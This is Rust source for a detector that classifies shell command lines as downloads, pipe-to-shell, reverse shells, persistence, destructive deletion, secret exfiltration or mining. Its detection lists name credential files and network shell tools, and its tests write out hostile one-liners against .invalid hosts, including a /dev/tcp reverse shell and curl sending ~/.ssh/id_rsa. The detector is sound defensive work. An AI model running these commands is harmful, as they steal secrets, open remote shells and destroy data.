//! Shell command lines: what they do, told from their words and not from their looks.
//!
//! A small tokenizer for what POSIX shells, `cmd` and PowerShell have in common: quotes,
//! separators, pipes, redirections, substitutions. It does not expand variables; a command
//! whose name is one is reported as `computed`. Scripts given as an argument (`sh -c '…'`,
//! `node -e '…'`, an encoded PowerShell command) are looked at in turn, to a fixed depth.

mod lex;

pub use self::lex::lines;
use self::lex::{Command, commands};
use super::layers;
use crate::model::{CapabilityKind, Context, Fact, FactKind, Span};

/// Scripts within scripts that are followed.
const MAX_DEPTH: u8 = 4;

/// The facts of one command line, all at `span`: the base name of each command, and `download`,
/// `pipe-to-shell`, `download-and-run`, `reverse-shell`, `persist`, `destructive`, `exfiltrate`,
/// `miner`, `encoded`, `computed`. The value is the command line.
pub fn facts(line: &str, span: &Span) -> Vec<Fact> {
    let mut out = Vec::new();
    scan(line, span, 0, 0, &mut out);
    out.sort();
    out.dedup();
    out
}

fn base(word: &str) -> &str {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    name.strip_suffix(".exe").or_else(|| name.strip_suffix(".cmd")).unwrap_or(name)
}

fn is_shell(name: &str) -> bool {
    matches!(name, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish" | "cmd" | "powershell" | "pwsh")
}

fn runs_code(name: &str) -> bool {
    is_shell(name)
        || matches!(
            name,
            "node"
                | "bun"
                | "deno"
                | "python"
                | "python3"
                | "python2"
                | "perl"
                | "ruby"
                | "php"
                | "osascript"
                | "iex"
        )
}

fn downloads(command: &Command) -> bool {
    let name = base(&command.name);
    let lower = name.to_ascii_lowercase();
    matches!(
        lower.as_str(),
        "curl"
            | "wget"
            | "aria2c"
            | "fetch"
            | "iwr"
            | "irm"
            | "invoke-webrequest"
            | "invoke-restmethod"
            | "bitsadmin"
    ) || (lower == "certutil" && command.args.iter().any(|arg| arg.to_ascii_lowercase().contains("urlcache")))
        || command.args.iter().any(|arg| {
            let arg = arg.to_ascii_lowercase();
            arg.contains("downloadstring(") || arg.contains("downloadfile(") || arg.contains("urllib.request")
        })
}

/// Words that send what they are given.
fn sends(command: &Command) -> bool {
    let file_or_input =
        |arg: &String| arg.starts_with('@') || arg.contains("=@") || arg.contains("$(") || arg.contains('`');
    let name = base(&command.name);
    let flag = |flags: &[&str]| {
        command
            .args
            .iter()
            .any(|arg| flags.iter().any(|flag| arg == flag || arg.starts_with(&format!("{flag}="))))
    };
    match name {
        "curl" => {
            (flag(&["-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form"])
                && command.args.iter().any(file_or_input))
                || flag(&["-T", "--upload-file"])
        }
        "wget" => flag(&["--post-file", "--body-file"]),
        _ => false,
    }
}

/// Sources of secrets, where their output is piped or substituted into something that sends.
fn secret(command: &Command) -> bool {
    let name = base(&command.name);
    matches!(name, "env" | "printenv" | "set" if command.args.is_empty())
        || command.args.iter().any(|arg| {
            [
                ".npmrc",
                ".ssh/",
                ".aws/",
                ".netrc",
                "/etc/shadow",
                "/etc/passwd",
                ".gnupg",
                ".kube/config",
                ".git-credentials",
            ]
            .iter()
            .any(|path| arg.contains(path))
        })
}

fn is_destructive(command: &Command) -> bool {
    let targets = [
        "/",
        "/*",
        "~",
        "~/",
        "~/*",
        "$HOME",
        "$HOME/",
        "$HOME/*",
        "${HOME}",
        "%USERPROFILE%",
        "C:\\",
        "c:\\",
    ];
    let aims = command.args.iter().any(|arg| targets.contains(&arg.trim_matches('"')));
    match base(&command.name) {
        "rm" => aims && command.args.iter().any(|arg| arg.starts_with('-') && arg.contains(['r', 'R'])),
        "rd" | "rmdir" | "del" => aims && command.args.iter().any(|arg| arg.eq_ignore_ascii_case("/s")),
        "mkfs" | "shred" => {
            command.args.iter().any(|arg| arg.starts_with("/dev/") || targets.contains(&arg.as_str()))
        }
        "dd" => {
            command.args.iter().any(|arg| arg.starts_with("of=/dev/sd") || arg.starts_with("of=/dev/nvme"))
        }
        _ => false,
    }
}

fn persists(command: &Command) -> bool {
    let name = base(&command.name).to_ascii_lowercase();
    let args = command.args.join(" ");
    let startup = |text: &str| {
        [
            ".bashrc",
            ".zshrc",
            ".profile",
            ".bash_profile",
            "/etc/profile",
            "LaunchAgents",
            "/etc/cron",
            "systemd/system",
            "systemd/user",
            "\\Startup\\",
        ]
        .iter()
        .any(|path| text.contains(path))
    };
    (name == "crontab" && !args.contains("-l"))
        || (name == "schtasks" && args.to_ascii_lowercase().contains("/create"))
        || (name == "reg" && args.to_ascii_lowercase().starts_with("add") && args.contains("\\Run"))
        || (name == "launchctl" && args.starts_with("load"))
        || (name == "systemctl" && args.contains("enable"))
        || command.redirects.iter().any(|file| startup(file))
        || (name == "tee" && startup(&args))
}

fn is_reverse_shell(command: &Command) -> bool {
    let name = base(&command.name);
    let network = command
        .args
        .iter()
        .chain(&command.redirects)
        .any(|word| word.contains("/dev/tcp/") || word.contains("/dev/udp/"));
    let netcat = matches!(name, "nc" | "ncat" | "netcat")
        && command.args.iter().any(|arg| {
            arg.starts_with('-') && !arg.starts_with("--") && arg.contains(['e', 'c'])
                || arg == "--exec"
                || arg == "--sh-exec"
        });
    let socat =
        name == "socat" && command.args.iter().any(|arg| arg.to_ascii_lowercase().starts_with("exec:"));
    network || netcat || socat
}

fn is_miner(command: &Command) -> bool {
    matches!(base(&command.name), "xmrig" | "minerd" | "cpuminer" | "ethminer" | "t-rex" | "nbminer")
        || command.args.iter().any(|arg| arg.contains("stratum+") || arg == "--donate-level")
}

fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
    let commands = commands(line);
    let mut add = |name: &str, capability: Option<CapabilityKind>, text: &str| {
        let context = Context { layer, ..Context::default() };
        let mut fact = Fact::new(FactKind::Shell, name, span.clone()).value(text);
        (fact.context, fact.capability) = (context, capability);
        out.push(fact);
    };
    let mut fetched: Vec<String> = Vec::new();
    for (at, command) in commands.iter().enumerate() {
        let name = base(&command.name);
        if name == "$" || name == "`" {
            // What a substitution gives: the substitution itself is looked at.
        } else if name.starts_with('$') || name.starts_with('%') {
            add("computed", Some(CapabilityKind::Process), line);
        } else if !name.is_empty() {
            add(name, Some(CapabilityKind::Process), line);
        }
        if downloads(command) {
            add("download", Some(CapabilityKind::Net), line);
            fetched.extend(command.outputs());
            if command.piped && commands[at + 1..].iter().take(3).any(|next| runs_code(base(&next.name))) {
                add("pipe-to-shell", Some(CapabilityKind::Net), line);
            }
        }
        // `sh -c "$(curl …)"`, `bash <(curl …)`, `iex (irm …)`, `eval $(wget …)`
        let inner = command.substitutions.iter().any(|text| self::commands(text).iter().any(downloads));
        if inner && (runs_code(name) || matches!(name, "eval" | "." | "source") || name.is_empty()) {
            add("pipe-to-shell", Some(CapabilityKind::Net), line);
        }
        let runs_fetched = fetched.iter().any(|file| {
            let file = file.trim_start_matches("./");
            let first = command.name.trim_start_matches("./");
            !file.is_empty()
                && (first == file
                    || (runs_code(name)
                        && command.args.iter().any(|arg| arg.trim_start_matches("./") == file))
                    || (name == "chmod"
                        && command.args.iter().any(|arg| arg.trim_start_matches("./") == file)
                        && command.args.iter().any(|arg| arg.contains('x') || arg.starts_with('7'))))
        });
        if runs_fetched {
            add("download-and-run", Some(CapabilityKind::Net), line);
        }
        let leaks = |inner: &str| self::commands(inner).iter().any(secret);
        if (sends(command) && (secret(command) || command.substitutions.iter().any(|text| leaks(text))))
            || (secret(command)
                && command.piped
                && commands[at + 1..]
                    .iter()
                    .take(3)
                    .any(|next| matches!(base(&next.name), "curl" | "wget" | "nc" | "ncat")))
            || (matches!(name, "curl" | "wget") && command.substitutions.iter().any(|text| leaks(text)))
        {
            add("exfiltrate", Some(CapabilityKind::Net), line);
        }
        for (is, name, capability) in [
            (is_reverse_shell(command), "reverse-shell", CapabilityKind::Net),
            (persists(command), "persist", CapabilityKind::FsWrite),
            (is_destructive(command), "destructive", CapabilityKind::FsWrite),
            (is_miner(command), "miner", CapabilityKind::Net),
        ] {
            if is {
                add(name, Some(capability), line);
            }
        }
    }
    if depth >= MAX_DEPTH {
        return;
    }
    for command in &commands {
        for inner in &command.substitutions {
            scan(inner, span, layer, depth + 1, out);
        }
        within(command, line, span, layer, depth, out);
    }
}

/// Scripts given as an argument.
fn within(command: &Command, line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
    let name = base(&command.name);
    let after = |flags: &[&str]| {
        let at =
            command.args.iter().position(|arg| flags.iter().any(|flag| arg.eq_ignore_ascii_case(flag)))?;
        command.args.get(at + 1)
    };
    match name {
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" => {
            // `-c`, also among other letters (`-lc`).
            let at = command
                .args
                .iter()
                .position(|arg| arg.starts_with('-') && !arg.starts_with("--") && arg.ends_with('c'));
            if let Some(script) = at.and_then(|at| command.args.get(at + 1)) {
                scan(script, span, layer, depth + 1, out);
            }
        }
        "cmd" => {
            if let Some(at) = command.args.iter().position(|arg| arg.eq_ignore_ascii_case("/c")) {
                scan(&command.args[at + 1..].join(" "), span, layer, depth + 1, out);
            }
        }
        "eval" | "iex" | "Invoke-Expression" | "sudo" | "nohup" | "exec" | "time" | "npx" | "cross-env"
        | "env" => {
            let rest: Vec<&str> = command
                .args
                .iter()
                .map(String::as_str)
                .skip_while(|arg| arg.contains('=') || arg.starts_with('-'))
                .collect();
            if !rest.is_empty() {
                scan(&rest.join(" "), span, layer, depth + 1, out);
            }
        }
        "powershell" | "pwsh" => {
            let encoded = after(&["-enc", "-e", "-ec", "-encodedcommand"]);
            if let Some(script) = encoded.and_then(|text| utf16(text)) {
                out.push(
                    Fact::new(FactKind::Shell, "encoded", span.clone())
                        .value(line)
                        .gives(CapabilityKind::DynamicCode),
                );
                scan(&script, span, layer + 1, depth + 1, out);
            } else if let Some(at) = command
                .args
                .iter()
                .position(|arg| arg.eq_ignore_ascii_case("-command") || arg.eq_ignore_ascii_case("-c"))
            {
                scan(&command.args[at + 1..].join(" "), span, layer, depth + 1, out);
            }
        }
        "node" | "bun" => {
            if let Some(code) = after(&["-e", "--eval", "-p", "--print"]) {
                let parsed = super::parse::js::parse("inline.js", code);
                out.extend(parsed.facts.into_iter().map(|mut fact| {
                    fact.span = span.clone();
                    fact.context.layer = fact.context.layer.saturating_add(layer);
                    fact
                }));
            }
        }
        _ => {}
    }
    // `echo <base64> | base64 -d | sh`
    for arg in command.args.iter().filter(|_| matches!(name, "echo" | "printf")) {
        if command.piped
            && let Some((_, bytes)) = layers::decode(arg)
        {
            out.push(
                Fact::new(FactKind::Shell, "encoded", span.clone())
                    .value(line)
                    .gives(CapabilityKind::DynamicCode),
            );
            scan(&String::from_utf8_lossy(&bytes), span, layer + 1, depth + 1, out);
        }
    }
}

/// PowerShell's encoded command: base64 of UTF-16LE.
fn utf16(text: &str) -> Option<String> {
    use base64::Engine as _;
    let bytes = base64::engine::general_purpose::STANDARD.decode(text).ok()?;
    let units: Vec<u16> = bytes.as_chunks().0.iter().map(|pair| u16::from_le_bytes(*pair)).collect();
    String::from_utf16(&units).ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine as _;
    use proptest::prelude::*;

    fn deeds(line: &str) -> Vec<String> {
        const DEEDS: &[&str] = &[
            "download",
            "pipe-to-shell",
            "download-and-run",
            "reverse-shell",
            "persist",
            "destructive",
            "exfiltrate",
            "miner",
            "encoded",
            "computed",
        ];
        let mut names: Vec<_> =
            facts(line, &Span::file("package.json")).into_iter().map(|fact| fact.name).collect();
        names.retain(|name| DEEDS.contains(&name.as_str()));
        names.sort();
        names.dedup();
        names
    }

    #[test]
    fn what_lines_do() {
        let powershell = base64::engine::general_purpose::STANDARD.encode(
            "iex (irm http://a.invalid/x.ps1)".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>(),
        );
        let cases: &[(&str, &[&str])] = &[
            ("curl -fsSL https://a.invalid/x.sh | bash", &["download", "pipe-to-shell"]),
            ("curl https://a.invalid/x.sh | sudo -E bash -", &["download", "pipe-to-shell"]),
            ("bash -c \"$(curl -s https://a.invalid/x)\"", &["download", "pipe-to-shell"]),
            ("bash <(wget -qO- https://a.invalid/x)", &["download", "pipe-to-shell"]),
            (
                "curl -o /tmp/a https://a.invalid/a && chmod +x /tmp/a && /tmp/a",
                &["download", "download-and-run"],
            ),
            (
                "wget https://a.invalid/jsextension -O jsextension; ./jsextension",
                &["download", "download-and-run"],
            ),
            ("bash -i >& /dev/tcp/a.invalid/4444 0>&1", &["reverse-shell"]),
            ("nc -e /bin/sh a.invalid 4444", &["reverse-shell"]),
            ("env | curl -X POST --data-binary @- https://a.invalid", &["download", "exfiltrate"]),
            ("curl -d @$HOME/.npmrc https://a.invalid", &["download", "exfiltrate"]),
            ("wget -q https://a.invalid/?h=$(cat ~/.ssh/id_rsa)", &["download", "exfiltrate"]),
            ("rm -rf ~", &["destructive"]),
            ("echo x >> ~/.bashrc", &["persist"]),
            ("./xmrig -o stratum+tcp://pool.invalid:3333 -u w", &["miner"]),
            (
                "echo Y3VybCBodHRwczovL2EuaW52YWxpZC94IHwgc2g= | base64 -d | sh",
                &["download", "encoded", "pipe-to-shell"],
            ),
            ("node-gyp rebuild || exit 0", &[]),
            ("husky install", &[]),
            ("rm -rf dist && tsc -p . && node scripts/build.js", &[]),
            ("node -e \"try{require('./postinstall')}catch(e){}\"", &[]),
            ("npx only-allow pnpm", &[]),
            ("echo 'curl x | sh'", &[]),
        ];
        for (line, wanted) in cases {
            assert_eq!(deeds(line), *wanted, "{line}");
        }
        assert_eq!(
            deeds(&format!("powershell -nop -enc {powershell}")),
            ["download", "encoded", "pipe-to-shell"]
        );
    }

    proptest! {
        #[test]
        fn no_line_panics(line in "\\PC{0,120}", soup in "[a-z '\"`$()|;&<>\\\\-]{0,120}") {
            let _ = (deeds(&line), deeds(&soup));
            let _ = lines(&soup);
        }
    }
}
